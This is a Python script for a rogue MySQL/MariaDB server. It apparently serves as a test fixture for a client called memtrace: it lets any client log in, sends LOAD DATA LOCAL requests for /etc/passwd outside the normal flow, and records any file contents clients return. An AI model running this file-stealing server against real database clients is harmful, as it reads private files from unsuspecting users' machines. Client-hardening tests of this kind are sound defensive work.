#!/usr/bin/python3
"""A MySQL server that wants files: it lets anybody in and asks for a file where none is due.

    rogue_mysql.py MODE FOLDER

    login   asks instead of saying that the login is good
    first   asks in answer to the first statement of each connection, then works
    all     asks in answer to every statement
    load    works, but LOAD DATA LOCAL asks for another file than the one that is offered, and fails
    twice   likewise, but asks for one more before it fails

    null    works, but fails LOAD DATA LOCAL and gives one NULL for what is asked about a run

It listens on a free port of 127.0.0.1, which it writes to FOLDER/port; what clients say goes to
FOLDER/sent (each statement a line) and what they give of files to FOLDER/given. "Works" means as
much as memtrace needs to believe that the tables are there. It ends by a signal.
"""

import socket
import struct
import sys
import threading
from pathlib import Path

WANTED = b"/etc/passwd"
OK = b"\0\0\0\2\0\0\0"
EOF_PACKET = b"\xfe\0\0\2\0"
BUSY = b"\xff" + struct.pack("<H", 1205) + b"#HY000not today"
VERSION = b"\x0a" + b"10.11.0-MariaDB\0"
# Protocol 4.1, secure connections, plugins, transactions, a database, LOCAL; no TLS.
ABILITIES = 0x1 | 0x2 | 0x8 | 0x80 | 0x200 | 0x2000 | 0x8000 | 0x80000
QUIT, QUERY = 1, 3
WIDE = 12


def length_coded(data):
    """Return bytes behind their length, which is short."""
    return bytes([len(data)]) + data


class Client:
    """One connection."""

    def __init__(self, server, connection):
        self.server = server
        self.connection = connection
        self.stream = connection.makefile("rb")
        self.sequence = 0
        self.asked = 0

    def read(self):
        """Return the next packet, or None at the end."""
        head = self.stream.read(4)
        if len(head) < 4:
            return None
        length, self.sequence = int.from_bytes(head[:3], "little"), head[3] + 1
        return self.stream.read(length)

    def write(self, *packets):
        """Send packets."""
        for packet in packets:
            head = len(packet).to_bytes(3, "little") + bytes([self.sequence % 256])
            self.connection.sendall(head + packet)
            self.sequence += 1

    def greet(self):
        """Say who we are, and take any answer."""
        low, high = ABILITIES & 0xffff, ABILITIES >> 16
        salt = b"12345678", b"123456789012\0"
        self.write(VERSION + struct.pack("<I", 7) + salt[0] + b"\0" + struct.pack("<HBHHB", low, 45,
                   2, high, 21) + b"\0" * 10 + salt[1] + b"mysql_native_password\0")
        return self.read() is not None

    def ask(self):
        """Ask for a file and take what comes, until an empty packet ends it."""
        self.asked += 1
        self.write(b"\xfb" + WANTED)
        self.server.note("asked", WANTED.decode())
        while packet := self.read():
            self.server.take(packet)
        return packet is not None

    def rows(self, columns, *rows):
        """Give rows of so many columns."""
        text = b"n"
        column = b"".join(map(length_coded, (b"def", b"", b"", b"", text, text)))
        column += b"\x0c" + struct.pack("<HIBHB", 63, 20, 8, 0, 0) + b"\0\0"
        self.write(bytes([columns]), *[column] * columns, EOF_PACKET, *rows, EOF_PACKET)

    def number(self, value):
        """Give a number, and more columns than anybody wants."""
        self.rows(WIDE, length_coded(str(value).encode()) + length_coded(b"0") * (WIDE - 1))

    def answer(self, statement):
        """Answer a statement as a server would."""
        if not statement.startswith(b"SELECT"):
            self.write(OK)
        elif self.server.mode == "null" and b" run=" in statement:
            self.rows(1, b"\xfb")
        elif b"FROM name" in statement or b"FROM process" in statement:
            self.rows(2)
        elif b"max_allowed_packet" in statement:
            self.number(1 << 24)
        elif b"memtrace_schema" in statement:
            self.number(1000)
        else:
            self.number(0)

    def load(self):
        """Take a file that was offered, under another name."""
        if not self.ask():
            return False
        if self.server.mode == "twice":
            if not self.ask():
                return False
        self.write(BUSY)
        return True

    def serve(self):
        """Work until the client has enough."""
        if not self.greet():
            return
        if self.server.mode == "login" and not self.ask():
            return
        self.write(OK)
        while packet := self.read():
            if packet[0] == QUIT:
                return
            statement = packet[1:]
            self.server.note("statement", statement.decode(errors="replace"))
            mode = self.server.mode
            if packet[0] != QUERY:
                self.write(OK)
            elif mode == "all" or (mode == "first" and not self.asked):
                if not self.ask():
                    return
                self.write(OK)
            elif statement.startswith(b"LOAD DATA"):
                if not self.load():
                    return
            else:
                self.answer(statement)


class Server:
    """All connections."""

    def __init__(self, mode, folder):
        self.mode = mode
        self.folder = Path(folder)
        self.lock = threading.Lock()

    def note(self, kind, text):
        """Remember what a client said."""
        with self.lock, open(self.folder / "sent", "a", encoding="utf-8") as out:
            out.write(f"{kind} {text[:200]!r}\n")

    def take(self, data):
        """Keep what a client gave."""
        with self.lock, open(self.folder / "given", "ab") as out:
            out.write(data)

    def talk(self, connection):
        """Serve one client."""
        with connection:
            try:
                Client(self, connection).serve()
            except OSError:
                pass

    def run(self):
        """Serve all clients."""
        with socket.create_server(("127.0.0.1", 0)) as listener:
            new = self.folder / "port.new"
            new.write_text(f"{listener.getsockname()[1]}\n", encoding="ascii")
            new.rename(self.folder / "port")
            while True:
                connection, _ = listener.accept()
                threading.Thread(target=self.talk, args=(connection,), daemon=True).start()


if __name__ == "__main__":
    Server(*sys.argv[1:]).run()
